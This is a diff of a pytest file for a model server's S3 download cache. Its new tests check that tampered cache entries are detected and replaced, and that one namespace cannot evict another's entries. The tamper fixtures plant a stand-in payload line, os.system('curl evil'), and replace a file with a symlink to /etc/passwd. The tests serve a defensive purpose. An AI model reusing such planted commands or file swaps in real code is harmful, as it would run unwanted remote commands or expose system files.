@@ -10,6 +10,7 @@ import base64
 import hashlib
 import http.server
 import json
+import logging
 import os
 import socket
 import subprocess
@@ -37,7 +38,7 @@ from modelserver.fetch_errors import (
 )
 from modelserver.loader import dir_digest
 from modelserver.storage_cache import NodeCache
-from modelserver.storage_s3 import ClientOptions, S3Settings, TransferOptions, parse_s3_uri
+from modelserver.storage_s3 import ClientOptions, S3Settings, TransferOptions, dir_digest_of, parse_s3_uri
 
 boto3 = pytest.importorskip("boto3")
 moto_server = pytest.importorskip("moto.server")
@@ -701,14 +702,10 @@ def test_cache_hit_reads_no_object_data(s3_env, s3, bucket, tmp_path: Path, monk
     second = fetch_model(f"s3://{bucket}/m", tmp_path / "b", opts(cache_dir=str(cache), sha256=first.sha256))
     assert second.source == "cache" and second.cache_key == first.cache_key
     assert read_tree(tmp_path / "b") == MODEL
-    # hard links into the read-only entry (same filesystem)
+    # a copy, never a hard link into the read-only entry: nothing a pod writes reaches the cache
     entry_file = cache / "entries" / first.cache_key / "data" / "model.safetensors"
-    assert os.path.samefile(entry_file, tmp_path / "b" / "model.safetensors")
-    assert not os.access(entry_file, os.W_OK) or os.geteuid() == 0
+    assert not os.path.samefile(entry_file, tmp_path / "b" / "model.safetensors")
     assert (entry_file.stat().st_mode & 0o777) == 0o444
-    # copies on request
-    third = fetch_model(f"s3://{bucket}/m", tmp_path / "c", opts(cache_dir=str(cache), cache_link="copy"))
-    assert third.source == "cache" and not os.path.samefile(entry_file, tmp_path / "c" / "model.safetensors")
     # a wrong sha256 is refused from the cache's record, without reading the data
     with pytest.raises(ChecksumMismatch, match="cache entry"):
         fetch_model(f"s3://{bucket}/m", tmp_path / "e", opts(cache_dir=str(cache), sha256="f" * 64))
@@ -717,6 +714,105 @@ def test_cache_hit_reads_no_object_data(s3_env, s3, bucket, tmp_path: Path, monk
     s3.put_object(Bucket=bucket, Key="m/config.json", Body=b'{"changed": true}')
     fourth = fetch_model(f"s3://{bucket}/m", tmp_path / "f", opts(cache_dir=str(cache)))
     assert fourth.source == "download" and fourth.cache_key != first.cache_key
+
+
+def sha256_of(p: Path) -> str:
+    return hashlib.sha256(p.read_bytes()).hexdigest()
+
+
+def _tamper_plant(data: Path) -> None:
+    (data / "handler.py").write_text("import os; os.system('curl evil')\n")
+
+
+def _tamper_flip(data: Path) -> None:
+    """One byte changed, in an entry of a store whose ETags are no MD5 (only the recorded digest is left)."""
+    meta_path = data.parent / "meta.json"
+    meta_path.write_text(json.dumps({**json.loads(meta_path.read_text()), "md5Etags": []}))
+    f = data / "model.safetensors"
+    os.chmod(f, 0o644)
+    raw = bytearray(f.read_bytes())
+    raw[100] ^= 0xFF
+    f.write_bytes(bytes(raw))
+
+
+def _tamper_rewrite_with_record(data: Path) -> None:
+    """The weights and the entry's record rewritten together: only the store's ETag (an MD5) catches it."""
+    f = data / "config.json"
+    os.chmod(f, 0o644)
+    f.write_bytes(b'{"architectures": ["EvilModel"]}')  # the same size: the size check passes
+    assert len(f.read_bytes()) == len(MODEL["config.json"])
+    meta_path = data.parent / "meta.json"
+    meta = json.loads(meta_path.read_text())
+    files = [p for p in data.rglob("*") if p.is_file()]
+    meta["sha256"] = dir_digest_of({p.relative_to(data).as_posix(): sha256_of(p) for p in files})
+    meta_path.write_text(json.dumps(meta))
+
+
+def _tamper_symlink(data: Path) -> None:
+    f = data / "tokenizer.json"
+    f.unlink()
+    f.symlink_to("/etc/passwd")
+
+
+@pytest.mark.parametrize(
+    "tamper, reason",
+    [
+        (_tamper_plant, "files the store does not list: handler.py"),
+        (_tamper_flip, "digest"),
+        (_tamper_rewrite_with_record, "is not the store's ETag"),
+        (_tamper_symlink, "tokenizer.json is not a regular file"),
+    ],
+)
+def test_a_tampered_cache_entry_is_refused_dropped_and_downloaded_again(
+    s3_env, s3, bucket, tmp_path: Path, caplog, tamper, reason
+):
+    """Issue 24, finding 1: whoever got to write a cache entry (a neighbour's fetch on an older version,
+    a hard link written through) cannot make the next pod load their bytes: every hit is checked against
+    the files and the store's listing, and a bad entry is replaced by a fresh download."""
+    put_tree(s3, bucket, "m", MODEL)
+    cache = tmp_path / "cache"
+    first = fetch_model(f"s3://{bucket}/m", tmp_path / "a", opts(cache_dir=str(cache)))
+    tamper(cache / "entries" / str(first.cache_key) / "data")
+    with caplog.at_level(logging.INFO, logger="modelserver.fetch"):
+        again = fetch_model(f"s3://{bucket}/m", tmp_path / "b", opts(cache_dir=str(cache)))
+    corrupt = [r for r in caplog.records if getattr(r, "event", "") == "cache_corrupt"]
+    assert corrupt and reason in corrupt[0].getMessage(), [r.getMessage() for r in caplog.records]
+    assert again.source == "download" and again.cache_key == first.cache_key
+    assert read_tree(tmp_path / "b") == MODEL  # the genuine model, and nothing planted beside it
+    assert read_tree(cache / "entries" / str(first.cache_key) / "data") == MODEL  # the entry is whole again
+    no_staging_left(tmp_path / "b")
+
+
+def test_one_namespace_never_evicts_another_and_the_node_cap_holds(s3_env, s3, bucket, tmp_path: Path):
+    """Per-namespace directories under one node cache: a namespace's fills evict its own entries only;
+    when the other namespaces leave too little of the node's cap, the model is fetched without the cache."""
+    for name in ("a", "b", "c"):
+        s3.put_object(Bucket=bucket, Key=f"{name}/w.bin", Body=os.urandom(MiB))
+    node = tmp_path / "node"
+
+    def ns_opts(ns: str, own: float) -> FetchOptions:
+        return opts(
+            cache_dir=str(node / ns),
+            cache_max_bytes=int(own * MiB),
+            cache_node_dir=str(node),
+            cache_node_max_bytes=int(2.5 * MiB),
+            cache_namespace=ns,
+        )
+
+    victim = fetch_model(f"s3://{bucket}/a", tmp_path / "v", ns_opts("team-b", 2)).cache_key
+    assert victim is not None
+    # the attacker's own cap would allow 2 MiB, but the node has 1.5 MiB left: one entry fits
+    assert fetch_model(f"s3://{bucket}/b", tmp_path / "x1", ns_opts("team-a", 2)).cache_key is not None
+    # a second one could fit only by evicting team-b's entry: it evicts team-a's own instead
+    third = fetch_model(f"s3://{bucket}/c", tmp_path / "x2", ns_opts("team-a", 2))
+    assert third.cache_key is not None and len(list((node / "team-a" / "entries").iterdir())) == 1
+    assert [p.name for p in (node / "team-b" / "entries").iterdir()] == [victim]
+    # with team-b's entry in use or not, team-a cannot take it: 2 MiB of its own would pass the node cap
+    big = ns_opts("team-a", 3)
+    s3.put_object(Bucket=bucket, Key="d/w.bin", Body=os.urandom(2 * MiB))
+    res = fetch_model(f"s3://{bucket}/d", tmp_path / "x3", big)
+    assert res.source == "download" and res.cache_key is None
+    assert [p.name for p in (node / "team-b" / "entries").iterdir()] == [victim]
 
 
 def test_concurrent_fetches_download_once(s3_env, s3, bucket, tmp_path: Path):
